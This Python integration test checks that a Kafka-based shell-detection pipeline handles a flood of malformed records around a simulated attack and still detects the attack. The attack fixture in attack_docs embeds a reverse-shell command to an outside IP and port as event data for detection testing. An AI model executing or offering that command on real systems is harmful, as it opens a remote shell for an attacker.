"""A flood of malformed records around a genuine attack, through the stage-1 forwarder on a real broker.

Every kind of garbage is a small generator in ``KINDS``; each declares what the decoder must make of it
(a dead-letter reason, or ``DECODES`` for bytes that decode to an object with no ECS category). Which
records the pre-filter drops is the pre-filter's own verdict (``prefilter.accepts``); the test checks
that the forwarder honours it and accounts for every record exactly once.
"""

from __future__ import annotations

import asyncio
import random
import uuid
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final, Literal

import orjson
import pytest

from shellwatch.core.byte_screen import ByteScreen
from shellwatch.core.pipeline import Pipeline, PipelineConfig
from shellwatch.formats.event_codec import DecodeReason
from shellwatch.kafka.clock import wall_clock_ms
from shellwatch.kafka.partitioning import java_partition
from shellwatch.samples.ecs_factory import connection, execution
from shellwatch.worker.prefilter.stage import PrefilterStats
from shellwatch.worker.runtime import CorrelationRuntime
from tests.integration.deployment import PARTITIONS, Deployment
from tests.integration.kafka_helpers import (
    At,
    Stored,
    headers_dict,
    make_topics,
    produce,
    read_all,
    run_stage_until,
    stage_config,
)
from tests.shared import RULE, SHELL_RULE, DictStore, committed_and_end, offline_alert_ids

pytestmark = [pytest.mark.kafka, pytest.mark.timeout(300)]

START_MS: Final = 1_732_406_400_000
BIG_TOPIC_CONFIG: Final = {"max.message.bytes": str(2 * 1024 * 1024)}
HUGE_BYTES: Final = 900_000
JAVA_TEXT: Final = "/usr/bin/java -jar /opt/app/app.jar"
PLAIN_TEXT: Final = "/usr/sbin/nginx -g daemon off"

DECODES: Final = "decodes"  # valid JSON object without an ECS category: counted as other_category
Expected = DecodeReason | Literal["decodes"]


# --------------------------------------------------------------------------------- the garbage


def _doc(text: str, rng: random.Random, **extra: Any) -> dict[str, Any]:
    """A small ECS-like process event whose executable carries *text* (the needle, or not)."""
    host = f"h{rng.getrandbits(32):08x}"
    return {
        "process": {"executable": text, "pid": rng.randrange(1, 65536)},
        "@timestamp": "2024-11-24T00:00:00.000Z",
        "event": {"category": ["process"], "type": ["start"], "id": uuid.UUID(int=rng.getrandbits(128)).hex},
        "host": {"id": host, "name": f"srv-{host}"},
        **extra,
    }


def _raw(text: str, rng: random.Random, **extra: Any) -> bytes:
    return orjson.dumps(_doc(text, rng, **extra))


def _uncategorised(text: str, rng: random.Random) -> bytes:
    return orjson.dumps({"message": text, "log": {"level": "info"}, "n": rng.randrange(10**6)})


def truncated_json(text: str, rng: random.Random) -> bytes:
    raw = _raw(text, rng)
    return raw[: raw.index(text.encode()) + len(text) + rng.randrange(2, 40)]


def invalid_utf8(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng).replace(b'"host"', b'"h\xff\xfeost"', 1)


def utf16_json(text: str, rng: random.Random) -> bytes:
    return orjson.dumps({"message": text, "n": rng.randrange(10**6)}).decode().encode("utf-16")


def lone_surrogate(text: str, rng: random.Random) -> bytes:
    return b'{"message": "%s \\ud83d", "n": %d}' % (text.encode(), rng.randrange(10**6))


def top_level_array(text: str, rng: random.Random) -> bytes:
    return b'["%s", %d, {"a": null}]' % (text.encode(), rng.randrange(10**6))


def top_level_string(text: str, rng: random.Random) -> bytes:
    return orjson.dumps(f"{text} {rng.randrange(10**6)}")


def top_level_number(_text: str, rng: random.Random) -> bytes:
    return str(rng.uniform(-1e9, 1e9)).encode()


def top_level_null(_text: str, rng: random.Random) -> bytes:
    return rng.choice([b"null", b"true", b" false "])


def empty_value(_text: str, _rng: random.Random) -> bytes:
    return b""


def whitespace_only(_text: str, rng: random.Random) -> bytes:
    return bytes(rng.choice(b" \t\r\n") for _ in range(rng.randrange(1, 20)))


def nan_literal(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng).replace(b'"pid":', b'"score":NaN,"pid":', 1)


def infinity_literal(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng).replace(b'"pid":', b'"score":-Infinity,"pid":', 1)


def trailing_garbage(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng) + rng.choice([b" }", b"garbage", b'{"another": 1}', b"\n,"])


def duplicate_bad_timestamps(text: str, rng: random.Random) -> bytes:
    raw = _raw(text, rng).replace(b'"2024-11-24T00:00:00.000Z"', b'"soon"', 1)
    return raw[:-1] + b',"@timestamp":"later"}'


def text_timestamp(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng).replace(b'"2024-11-24T00:00:00.000Z"', b'"the day before yesterday"', 1)


def month_13_timestamp(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng).replace(b"2024-11-24", b"2024-13-24", 1)


def boolean_timestamp(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng).replace(b'"2024-11-24T00:00:00.000Z"', rng.choice([b"true", b"false"]), 1)


def deeply_nested(text: str, _rng: random.Random) -> bytes:
    depth = 5000
    return b'{"a":' + b"[" * depth + orjson.dumps(text) + b"]" * depth + b"}"


def huge_string(text: str, rng: random.Random) -> bytes:  # unterminated string near the 1 MB default limit
    return b'{"process":{"executable":"%s"},"blob":"' % text.encode() + rng.randbytes(HUGE_BYTES // 2).hex().encode()


def bom_prefixed(text: str, rng: random.Random) -> bytes:
    return b"\xef\xbb\xbf" + _uncategorised(text, rng)


def nul_bytes(text: str, rng: random.Random) -> bytes:
    raw = _raw(text, rng)  # never a leading NUL: that is the Confluent wire format's magic byte
    return raw.replace(text.encode(), text.encode() + b"\x00\x00", 1) if rng.random() < 0.5 else raw + b"\x00"


def csv_line(text: str, rng: random.Random) -> bytes:
    return f"2024-11-24T00:00:00Z,h{rng.getrandbits(32):08x},{text},{rng.randrange(65536)}\n".encode()


def xml_document(text: str, rng: random.Random) -> bytes:
    return f'<?xml version="1.0"?><event id="{rng.getrandbits(32)}"><exe>{text}</exe></event>'.encode()


def avro_single_object(text: str, rng: random.Random) -> bytes:
    body = bytes([len(text) * 2]) + text.encode() + rng.randbytes(6)
    return b"\xc3\x01" + rng.randbytes(8) + body


def confluent_wire(text: str, rng: random.Random) -> bytes:
    return b"\x00" + rng.randrange(1, 2**31).to_bytes(4, "big") + _raw(text, rng)


def huge_number(text: str, rng: random.Random) -> bytes:
    return _raw(text, rng).replace(b'"pid":', b'"big":1%s,"pid":' % (b"0" * rng.randrange(5000, 6000)), 1)


def valid_not_ecs(text: str, rng: random.Random) -> bytes:
    return _uncategorised(text, rng)


@dataclass(frozen=True, slots=True)
class Kind:
    make: Callable[[str, random.Random], bytes]
    expected: Expected
    null: bool = False  # produce a null value (tombstone) instead of make()'s bytes


KINDS: Final[dict[str, Kind]] = {
    "truncated_json": Kind(truncated_json, "invalid_json"),
    "invalid_utf8": Kind(invalid_utf8, "invalid_json"),
    "utf16_json": Kind(utf16_json, DECODES),  # the stdlib fallback detects UTF-16
    "lone_surrogate": Kind(lone_surrogate, DECODES),  # the stdlib fallback accepts lone surrogates
    "top_level_array": Kind(top_level_array, "not_an_object"),
    "top_level_string": Kind(top_level_string, "not_an_object"),
    "top_level_number": Kind(top_level_number, "not_an_object"),
    "top_level_null_or_bool": Kind(top_level_null, "not_an_object"),
    "empty_value": Kind(empty_value, "empty"),
    "null_value": Kind(empty_value, "empty", null=True),
    "whitespace_only": Kind(whitespace_only, "empty"),
    "nan_literal": Kind(nan_literal, "invalid_json"),
    "infinity_literal": Kind(infinity_literal, "invalid_json"),
    "trailing_garbage": Kind(trailing_garbage, "invalid_json"),
    "duplicate_bad_timestamps": Kind(duplicate_bad_timestamps, "invalid_timestamp"),
    "text_timestamp": Kind(text_timestamp, "invalid_timestamp"),
    "month_13_timestamp": Kind(month_13_timestamp, "invalid_timestamp"),
    "boolean_timestamp": Kind(boolean_timestamp, "invalid_timestamp"),
    "deeply_nested": Kind(deeply_nested, "too_deep"),
    "bom_prefixed": Kind(bom_prefixed, DECODES),  # the stdlib fallback strips a UTF-8 BOM
    "nul_bytes": Kind(nul_bytes, "invalid_json"),
    "csv_line": Kind(csv_line, "invalid_json"),
    "xml_document": Kind(xml_document, "invalid_json"),
    "avro_single_object": Kind(avro_single_object, "unknown_schema"),  # a random writer fingerprint
    "confluent_wire": Kind(confluent_wire, "schema_registry_unsupported"),
    "huge_number": Kind(huge_number, "invalid_json"),
    "valid_not_ecs": Kind(valid_not_ecs, DECODES),
}
HUGE: Final = Kind(huge_string, "invalid_json")
HUGE_COUNT: Final = 4  # two with the needle, two without: ~3.6 MB in all


@dataclass(frozen=True, slots=True)
class Outgoing:
    topic: str
    key: bytes | None
    value: bytes | None
    headers: tuple[tuple[str, bytes], ...]
    kind: str  # a KINDS name, "huge_string" or "genuine"
    expected: Expected | None  # None: a genuine event, to be forwarded
    partition: int | None = None  # always None: the Java partitioner places every record by its key


def flood(names: dict[str, str], count: int, rng: random.Random, *, huge: int) -> list[Outgoing]:
    """*count* malformed records (every kind, half with the Java needle), keyed by host ids, shuffled."""
    hosts = [f"{rng.getrandbits(128):032x}" for _ in range(64)]
    table = list(KINDS.items())
    plan = [(*table[i % len(table)], (i // len(table)) % 2 == 0) for i in range(count - huge)]
    plan += [("huge_string", HUGE, i % 2 == 0) for i in range(huge)]
    out: list[Outgoing] = []
    for n, (name, kind, needle) in enumerate(plan):
        value = None if kind.null else kind.make(JAVA_TEXT if needle else PLAIN_TEXT, rng)
        headers = (("origin", name.encode()), ("n", str(n).encode())) if n % 2 else ()
        topic = names["network"] if rng.random() < 0.5 else names["process"]
        out.append(Outgoing(topic, rng.choice(hosts).encode(), value, headers, name, kind.expected))
    rng.shuffle(out)
    return out


def attack_docs(host: str) -> list[dict[str, Any]]:
    return [
        connection(ts_ms=START_MS, host_id=host, pid=4242, dest_ip="185.220.101.4", event_id=f"{host}-conn"),
        execution(
            ts_ms=START_MS + 900,
            host_id=host,
            pid=31337,
            parent_pid=4242,
            event_id=f"{host}-shell",
            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"],
        ),
    ]


def with_attack(names: dict[str, str], records: list[Outgoing], docs: list[dict[str, Any]]) -> list[Outgoing]:
    genuine = [
        Outgoing(names[role], doc["host"]["id"].encode(), orjson.dumps(doc), (), "genuine", None)
        for role, doc in zip(("network", "process"), docs, strict=True)
    ]
    third = len(records) // 3
    return [*records[:third], genuine[0], *records[third : 2 * third], genuine[1], *records[2 * third :]]


# ------------------------------------------------------------------------------------ kafka


def produce_flood(bootstrap: str, records: list[Outgoing]) -> dict[At, Outgoing]:
    """Produce in order with the Java partitioner; the records by where they landed."""
    sent = produce(
        bootstrap, records, config={"linger.ms": 20, "message.max.bytes": 2 * 1024 * 1024}, flush_timeout_s=60
    )
    landed = {s.stored.at: s.out for s in sent}
    assert len(landed) == len(records)
    for (_topic, partition, _offset), out in landed.items():
        assert out.key is not None and partition == java_partition(out.key, PARTITIONS)
    return landed


def run_flood(
    bootstrap: str, names: dict[str, str], group: str, prefilter: ByteScreen, *, count: int, huge: int, seed: int
) -> tuple[dict[At, Outgoing], PrefilterStats, list[dict[str, Any]]]:
    genuine = attack_docs(f"{random.Random(seed).getrandbits(128):032x}")
    records = with_attack(names, flood(names, count, random.Random(seed), huge=huge), genuine)
    assert len({o.kind for o in records} - {"genuine"}) == len(KINDS) + (1 if huge else 0)
    landed = produce_flood(bootstrap, records)
    config = stage_config(bootstrap, names, group)
    stats = asyncio.run(
        run_stage_until(
            config,
            prefilter,
            lambda st: st.records >= len(records) and st.buffered == 0,
            settle_s=0.5,
            timeout_s=120,
            stop_timeout_s=30,
        )
    )
    committed, ends = committed_and_end(bootstrap, group, [names["network"], names["process"]], PARTITIONS)
    assert committed == ends  # everything consumed and committed
    assert sum(ends.values()) == len(records)
    return landed, stats, genuine


# ------------------------------------------------------------------------------ assertions


def check_outcomes(
    bootstrap: str,
    names: dict[str, str],
    landed: dict[At, Outgoing],
    stats: PrefilterStats,
    prefilter: ByteScreen,
) -> dict[str, Counter[str]]:
    """Every record accounted once: pre-filtered, dead-lettered (verbatim), forwarded or other_category."""
    dropped = {at for at, out in landed.items() if not prefilter.accepts(out.value or b"")}
    passed = {at: out for at, out in landed.items() if at not in dropped}
    expected_dead = {at: out for at, out in passed.items() if out.expected not in (None, DECODES)}
    expected_other = [out for out in passed.values() if out.expected == DECODES]
    expected_forwards = [out for out in passed.values() if out.expected is None]

    assert stats.records == len(landed)
    assert stats.prefiltered == len(dropped)
    assert stats.dead_letters == Counter(str(out.expected) for out in expected_dead.values())
    assert stats.other_category == len(expected_other)
    assert stats.forwarded == len(expected_forwards)
    assert stats.prefiltered + stats.forwarded + stats.dead_lettered + stats.other_category == stats.records

    dead = read_all(bootstrap, names["dlq"], 1, timeout_s=60)
    assert len(dead) == len(expected_dead) == stats.dead_lettered
    seen: set[At] = set()
    for d in dead:
        h = headers_dict(d.headers)
        raw_at = tuple(h.get(f"__connect.errors.{n}") for n in ("topic", "partition", "offset"))
        assert all(isinstance(part, bytes) for part in raw_at), d.headers
        topic, partition, offset = (part.decode() if isinstance(part, bytes) else "" for part in raw_at)
        at = (topic, int(partition), int(offset))
        assert at in expected_dead, f"dead letter for {at}, which should not be one"
        assert at not in seen, f"{at} dead-lettered twice"
        seen.add(at)
        out = expected_dead[at]
        assert (d.key, d.value) == (out.key, out.value or b""), out.kind
        assert d.headers[: len(out.headers)] == out.headers
        message = h.get("__connect.errors.exception.message")
        assert message is not None and message.startswith(f"{out.expected}: ".encode()), (out.kind, message)
        assert h.get("shellwatch.error.reason") == str(out.expected).encode()
    assert seen == expected_dead.keys()

    # Outcome by kind, for the report and as a guard that each kind really was exercised.
    by_kind: dict[str, Counter[str]] = {}
    for at, out in landed.items():
        outcome = "prefiltered" if at in dropped else "dead" if at in expected_dead else "passed"
        by_kind.setdefault(out.kind, Counter())[outcome] += 1
    return by_kind


def relevant_records(bootstrap: str, names: dict[str, str]) -> list[Stored]:
    return sorted(
        read_all(bootstrap, names["relevant"], PARTITIONS, timeout_s=60), key=lambda r: (r.partition, r.offset)
    )


def detect(relevant: list[Stored]) -> list[dict[str, Any]]:
    """What the correlation agent (stage 2) raises from the relevant topic."""
    runtime = CorrelationRuntime(Pipeline(RULE, PipelineConfig(), SHELL_RULE), DictStore())
    now_ms = wall_clock_ms()
    alerts = runtime.reload(set(range(PARTITIONS)), now_ms)
    for r in relevant:
        headers = {k: v for k, v in r.headers if v is not None}
        alerts += runtime.handle(r.value, headers, r.partition, now_ms)
        runtime.persist()
    return alerts + runtime.pipeline.flush(now_ms)


# ----------------------------------------------------------------------------------- tests


def test_ten_thousand_malformed_records_around_an_attack(
    kafka_bootstrap: str, topic_name: str, unique_group: str, tmp_path: Path
) -> None:
    prefilter = Pipeline(RULE, PipelineConfig(prefilter_enabled=True), SHELL_RULE).prefilter
    # A real worker reads the same source topics (its own group and output topics) alongside.
    deployment = Deployment(kafka_bootstrap, tmp_path, topic_config=BIG_TOPIC_CONFIG)
    names = {
        "network": deployment.network,
        "process": deployment.process,
        **make_topics(kafka_bootstrap, topic_name, config=BIG_TOPIC_CONFIG, relevant=PARTITIONS, dlq=1),
    }
    worker = deployment.start_worker()
    try:
        landed, stats, genuine = run_flood(
            kafka_bootstrap, names, unique_group, prefilter, count=10_000, huge=HUGE_COUNT, seed=20241124
        )
        check_flood(kafka_bootstrap, names, landed, stats, genuine=genuine, prefilter=prefilter)
        expected_ids = offline_alert_ids(genuine)
        alerts = deployment.alerts_for(len(expected_ids), timeout_s=120, settle_s=2)
        assert {a["event"]["id"] for a in alerts} == expected_ids, worker.log_tail()
        assert worker.running(), worker.log_tail()
    finally:
        deployment.stop()


def check_flood(
    bootstrap: str,
    names: dict[str, str],
    landed: dict[At, Outgoing],
    stats: PrefilterStats,
    *,
    genuine: list[dict[str, Any]],
    prefilter: ByteScreen,
) -> None:
    """The 10,000-record run: accounting, dead letters, and the attack forwarded and detected."""
    assert stats.records == 10_000 + len(genuine)
    by_kind = check_outcomes(bootstrap, names, landed, stats, prefilter)
    assert len(by_kind) - 1 >= 20
    # Every kind that can carry the needle had records on both sides of the pre-filter.
    # (No needle fits in a number, null or empty value; UTF-16 hides it from a byte filter; a "\\u" escape
    # that does not decode with orjson makes the pre-filter pass the record on to the decoder.)
    one_sided = {"top_level_number", "top_level_null_or_bool", "empty_value", "null_value", "whitespace_only"}
    one_sided |= {"utf16_json", "lone_surrogate"}
    for kind in set(KINDS) - one_sided:
        assert by_kind[kind]["prefiltered"] > 0 and by_kind[kind]["prefiltered"] < sum(by_kind[kind].values()), (
            kind,
            by_kind[kind],
        )
    assert by_kind["huge_string"] == Counter(prefiltered=2, dead=2)
    assert stats.dead_lettered > 3000 and stats.prefiltered > 4000

    relevant = relevant_records(bootstrap, names)
    forwarded = [r for r in relevant if "shellwatch.progress" not in headers_dict(r.headers)]
    assert sorted(r.value for r in forwarded) == sorted(orjson.dumps(doc) for doc in genuine)
    assert stats.markers == len(relevant) - len(forwarded)
    expected_ids = offline_alert_ids(genuine)
    assert len(expected_ids) == 2  # the sequence and the known-bad shell
    alerts = detect(relevant)
    assert sorted(a["event"]["id"] for a in alerts) == sorted(expected_ids)


def test_with_the_prefilter_off_every_malformed_record_is_dead_lettered(
    kafka_bootstrap: str, topic_name: str, unique_group: str
) -> None:
    prefilter = ByteScreen.from_patterns([], enabled=False)
    names = make_topics(
        kafka_bootstrap,
        topic_name,
        config=BIG_TOPIC_CONFIG,
        network=PARTITIONS,
        process=PARTITIONS,
        relevant=PARTITIONS,
        dlq=1,
    )
    landed, stats, genuine = run_flood(kafka_bootstrap, names, unique_group, prefilter, count=2_000, huge=1, seed=7)
    assert stats.prefiltered == 0
    by_kind = check_outcomes(kafka_bootstrap, names, landed, stats, prefilter)
    undecodable = [out for out in landed.values() if out.expected not in (None, DECODES)]
    assert stats.dead_lettered == len(undecodable)
    assert stats.other_category == sum(out.expected == DECODES for out in landed.values())
    assert stats.forwarded == len(genuine)
    for kind, outcome in by_kind.items():
        assert "prefiltered" not in outcome, kind
